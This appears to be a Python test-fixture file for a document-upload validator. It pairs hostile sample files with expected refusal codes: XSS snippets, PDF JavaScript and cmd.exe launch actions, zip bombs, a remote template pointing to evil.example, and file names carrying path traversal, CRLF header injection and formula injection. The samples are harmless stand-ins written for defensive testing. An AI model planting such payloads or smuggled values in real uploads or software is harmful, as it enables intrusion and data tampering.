"""Files that must not get in, or must come out as nothing but a download. Each has a name, a content and a reason."""

from __future__ import annotations

import io
import zipfile
import zlib
from typing import Final

from tests.support import files

EICAR: Final = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PNG: Final = bytes.fromhex("89504e470d0a1a0a0000000d49484452") + b"\x00" * 40
JPEG: Final = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 40
GIF: Final = b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 20
MP4: Final = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 40
HTML: Final = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ZIP: Final = files.package({"a.txt": b"hidden"})
MACRO_TYPES: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"


def bomb() -> bytes:
    """A Word file of a few kilobytes that unpacks to 200 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in files.office_parts("docx").items():
            archive.writestr(name, part)
        archive.writestr("word/media/a.xml", b"\x00" * (200 * 1024 * 1024))
    return out.getvalue()


def lying_bomb() -> bytes:
    """The same, with a false size in the list of parts."""
    made = bytearray(bomb())
    for at in (made.rindex(b"word/media/a.xml") - 46 + 24,):
        made[at : at + 4] = (100).to_bytes(4, "little")
    return bytes(made)


def encrypted_zip() -> bytes:
    made = bytearray(files.docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + place] |= 1
            at = made.find(mark, at + 4)
    return bytes(made)


def object_stream_pdf() -> bytes:
    """A PDF whose script hides in a packed object stream."""
    packed = zlib.compress(b"4 0 <</S/JavaScript/JS(app.alert(1))>>")
    stream = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return files.pdf().replace(b"xref\n", stream + packed + b"\nendstream endobj\nxref\n", 1)


def remote(kind: str) -> str:
    return f'<Relationships><Relationship Id="a" Type="http://x/{kind}" Target="http://evil.example/t" TargetMode="External"/></Relationships>'


#: name as sent, content, code of the refusal; None: kept, and handed out as a download only
HOSTILE: Final[tuple[tuple[str, bytes, str | None], ...]] = (
    # what the name admits
    ("page.html", HTML, "document_kind"),
    ("drawing.svg", SVG, "document_kind"),
    ("picture.png", PNG, "document_kind"),
    ("photo.jpg", JPEG, "document_kind"),
    ("film.mp4", MP4, "document_kind"),
    ("archive.zip", ZIP, "document_kind"),
    ("macros.docm", files.docx(), "document_kind"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "document_kind"),
    ("program.exe", b"MZ" + b"\x00" * 100, "document_kind"),
    ("noending", b"text", "document_kind"),
    # double endings
    ("report.pdf.exe", b"MZ" + b"\x00" * 100, "document_kind"),
    ("report.pdf.html", HTML, "document_kind"),
    ("report.exe.pdf", b"MZ" + b"\x00" * 100, "document_mismatch"),
    ("photo.jpg.txt", JPEG, "document_mismatch"),
    # another content than the name says
    ("report.pdf", HTML, "document_mismatch"),
    ("report.pdf", PNG, "document_mismatch"),
    ("report.pdf", ZIP, "document_mismatch"),
    ("report.docx", ZIP, "document_mismatch"),
    ("report.docx", files.xlsx(), "document_mismatch"),
    ("table.xlsx", files.docx(), "document_mismatch"),
    ("table.csv", HTML, "document_markup"),
    ("notes.txt", SVG, "document_markup"),
    ("notes.txt", b"\n  <?xml version='1.0'?><a/>", "document_markup"),
    ("table.csv", b"a,b\n1,<script>alert(1)</script>\n", "document_markup"),
    ("notes.txt", GIF, "document_mismatch"),
    ("notes.txt", b"text\x00more", "document_mismatch"),
    # two files in one
    ("report.pdf", files.pdf(after=ZIP), "document_mismatch"),
    ("report.pdf", files.pdf(after=HTML), "document_mismatch"),
    ("report.pdf", b"GIF89a" + files.pdf(), "document_mismatch"),
    ("report.docx", b"%PDF-1.7\n" + files.docx(), "document_damaged"),
    ("report.docx", files.docx() + HTML, "document_damaged"),
    # what runs, fetches or unpacks
    ("report.pdf", files.pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "document_active"),
    ("report.pdf", files.pdf(b"/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"), "document_active"),
    ("report.pdf", files.pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "document_active"),
    ("report.pdf", files.pdf(b"/Names<</EmbeddedFiles 9 0 R>>"), "document_active"),
    ("report.pdf", object_stream_pdf(), "document_active"),
    ("report.pdf", files.pdf(b"/Encrypt 9 0 R"), "document_encrypted"),
    ("report.docx", files.docx(**{"word/vbaProject.bin": b"x"}), "document_macros"),
    ("report.docx", files.docx(**{"[Content_Types].xml": f'<Types><Override ContentType="{MACRO_TYPES}"/></Types>'}), "document_macros"),
    ("report.docx", files.docx(**{"word/embeddings/oleObject1.bin": b"x"}), "document_active"),
    ("report.docx", files.docx(**{"word/_rels/settings.xml.rels": remote("attachedTemplate")}), "document_active"),
    ("report.docx", files.docx(**{"word/media/film.mp4": MP4}), "document_active"),
    ("report.docx", files.docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "document_declaration"),
    ("report.docx", files.docx(**{"word/document.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")}), "document_declaration"),
    ("report.docx", files.docx(**{"../../evil.xml": "<a/>"}), "document_damaged"),
    ("report.docx", encrypted_zip(), "document_encrypted"),
    ("report.docx", files.docx()[:-40], "document_damaged"),
    ("report.docx", bomb(), "document_bomb"),
    ("report.docx", lying_bomb(), "document_damaged"),
    # the file that every scanner knows
    ("virus.txt", EICAR, "document_virus"),
    # names that lead elsewhere: kept under a random name, handed out under a harmless one
    ("../../../etc/cron.d/job.txt", b"* * * * * root true\n", None),
    ("..\\..\\windows\\win.txt", b"text", None),
    ("/etc/passwd.csv", b"root,x,0,0\n", None),
    ("a\r\nSet-Cookie: a=b\r\n.txt", b"text", None),
    ('quote"; filename="evil.html.txt', b"text", None),
    ("evil\u202efdp.txt", b"text", None),
    ("=cmd.csv", b"=1+1,+1,-1,@a\n", None),
)  # fmt: skip
